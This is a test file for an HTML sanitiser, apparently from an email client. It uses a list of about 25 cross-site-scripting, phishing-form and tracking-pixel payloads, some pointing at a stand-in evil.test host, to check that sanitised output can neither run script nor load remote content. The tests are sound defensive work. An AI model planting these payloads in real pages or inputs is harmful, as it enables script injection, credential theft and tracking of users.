/** Keeps a stranger's HTML harmless: nothing runs, nothing loads, nothing leads astray. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { htmlToText } from './html-text.ts';
import { sanitiseHtml } from './sanitise.ts';

const clean = (html: string) => sanitiseHtml(html, (id) => (id === 'logo@shop' ? 4 : undefined)) ?? '';

const attacks = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<svg onload=alert(1)><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href=" data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<iframe src="https://evil.test"></iframe><object data=x></object><embed src=x>',
  '<form action="https://evil.test"><input name=password><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test"><base href="https://evil.test/">',
  '<link rel=stylesheet href="https://evil.test/x.css"><style>@import "https://evil.test";</style>',
  '<p style="background:url(https://evil.test/p.gif)">x</p>',
  '<p style="background-color:u\\72l(https://evil.test)">x</p>',
  '<p style="width:expression(alert(1));-moz-binding:url(x)">x</p>',
  '<img src="https://evil.test/pixel.gif" width="1" height="1">',
  '<img srcset="https://evil.test/a 2x" src=//evil.test/b>',
  '<table background="https://evil.test/bg.gif"><tr><td background="x">y</td></tr></table>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<!--[if gte mso 9]><img src=x onerror=alert(1)><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '"><img src=x onerror=alert(1)>',
];

/** Reads tags as a browser would, roughly: names, and attributes with their values. */
function tagsIn(html: string): { name: string; attributes: string }[] {
  return [...html.matchAll(/<([a-z!/?][^\s>]*)([^>]*)>/gi)].map(([, name = '', attributes = '']) => ({
    name: name.toLowerCase(),
    attributes,
  }));
}

function expectHarmless(html: string): void {
  for (const { name, attributes } of tagsIn(html)) {
    expect(name).not.toMatch(
      /^\/?(script|style|svg|math|iframe|object|embed|form|input|button|meta|base|link|template|!|\?)/,
    );
    expect(attributes).not.toMatch(/\son\w+\s*=/i);
    expect(attributes).not.toMatch(/(^|\s)(srcset|background|action|formaction|poster|xlink:href)\s*=/i);
    for (const [, source] of attributes.matchAll(/(?:^|\s)src="([^"]*)"/g))
      expect(source).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,/);
    for (const [, href] of attributes.matchAll(/(?:^|\s)href="([^"]*)"/g))
      expect(href).toMatch(/^(https?:|mailto:|tel:)/i);
    expect(attributes).not.toMatch(/style="[^"]*(url|expression|import|\\)/i);
  }
}

describe('a stranger’s HTML', () => {
  it.each(attacks)('can do nothing: %s', (html) => {
    expectHarmless(clean(html));
    expectHarmless(clean(`<div>${html}</div>`));
    expectHarmless(clean(clean(html)));
  });

  it('can do nothing however such pieces are put together', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        ...attacks,
        '<',
        '>',
        '"',
        "'",
        '<!--',
        '-->',
        '</style>',
        '<style>',
        '=',
        '/',
        '\0',
        '&#',
        '<b',
        '<a href=',
        '<img src=',
      ),
      fc.string({ maxLength: 12 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => expectHarmless(clean(pieces.join('')))),
      { numRuns: 400 },
    );
  });

  it('keeps how it looks, and says where its pictures are', () => {
    expect(clean('<p style="color: red; position: fixed">Hej <b>du</b></p>')).toBe(
      '<p style="color:red;">Hej <b>du</b></p>',
    );
    expect(clean('<img src="cid:logo@shop" alt="Logo">')).toBe('<img data-part="4" alt="Logo">');
    expect(clean('<img src="https://shop.test/a.png?x=1&amp;y=2">')).toBe(
      '<img data-remote-src="https://shop.test/a.png?x=1&#38;y=2">',
    );
    expect(clean('<a href="https://shop.test">x</a>')).toContain('rel="noopener noreferrer nofollow"');
  });

  it('is not shown when it is larger than anything a person writes', () => {
    expect(sanitiseHtml(`<p>${'x'.repeat(250_000)}</p>`, () => undefined)).toBeUndefined();
    expect(sanitiseHtml('<b>'.repeat(400_000), () => undefined)).toBeUndefined();
  });
});

describe('the words of HTML', () => {
  it('read as its lines do', () => {
    const html =
      '<html><head><title>no</title><style>p{}</style></head><body><p>Hej &aring;&auml;&ouml; &#x1F64F;</p><div>rad ett</div><div>rad&nbsp;två<br>rad tre</div><ul><li>a<li>b</ul><blockquote>gammalt</blockquote></body></html>';
    expect(htmlToText(html)).toBe('Hej åäö 🙏\n\nrad ett\nrad två\nrad tre\n\n- a\n- b\n\n> gammalt');
  });

  it('keep a link’s address, once', () => {
    expect(htmlToText('<a href="https://shop.test/r">Returen</a> <a href="https://shop.test">shop.test</a>')).toBe(
      'Returen (https://shop.test/r) shop.test',
    );
  });
});
